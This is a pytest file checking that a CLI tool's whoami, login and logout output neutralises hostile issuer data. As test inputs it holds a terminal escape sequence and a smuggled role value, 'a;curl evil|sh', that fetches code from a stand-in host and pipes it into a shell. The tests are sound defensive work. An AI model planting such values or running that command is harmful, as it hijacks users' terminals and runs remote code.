"""What an issuer says is shown, and steers neither the terminal nor the shell of who reads it."""

from __future__ import annotations

import json

import pytest

from holder.profile import Profile
from tests.holder.conftest import Hourmark
from tests.holder.issuer_double import IssuerDouble

STEERING = "role:a\x1b]0;pwned\x07"
ME: dict[str, object] = {
    "principal": STEERING,
    "roles": [],
    "scope": "*",
    "client_id": "c",
    "audience": None,
    "expires_at": None,
}


@pytest.mark.parametrize(
    "form", ["--field principal", "-o text", "--format-template {{.Principal}}", "-o table"]
)
def test_an_answer_with_control_characters_is_no_answer(
    hourmark: Hourmark, issuer: IssuerDouble, form: str
) -> None:
    Profile("default", issuer.url, issuer.add_key().reveal(), None).save()
    issuer.instead["GET /v1/me"] = (200, {}, json.dumps(ME).encode())
    done = hourmark("whoami", *form.split())
    assert (done.code, done.out) == (7, "")
    assert "principal is not of its kind" in done.err
    assert not {"\x1b", "\x07"} & set(done.err)


def test_what_an_issuer_grants_is_told_without_steering(hourmark: Hourmark, issuer: IssuerDouble) -> None:
    Profile("default", issuer.url, issuer.add_key().reveal(), None).save()
    answer = {"access_token": "t", "token_type": "Bearer", "expires_in": 60, "scope": STEERING}
    issuer.instead["POST /v1/token"] = (200, {}, json.dumps(answer).encode())
    done = hourmark("login", "token", "--scope", "x:y@z")
    assert not {"\x1b", "\x07"} & set(done.err + done.out)


def test_a_command_to_copy_is_one_command(hourmark: Hourmark, issuer: IssuerDouble) -> None:
    key = issuer.add_key()
    Profile("default", issuer.url, key.reveal(), "role:a;curl evil|sh").save()
    done = hourmark("logout")
    assert f"hourmark role key delete 'a;curl evil|sh' {key.access}" in done.err


def test_a_file_that_steers_is_told_without_steering(hourmark: Hourmark, issuer: IssuerDouble) -> None:
    Profile("default", issuer.url, issuer.add_key().reveal(), STEERING).save()
    done = hourmark("logout")
    assert "\x1b" not in done.err
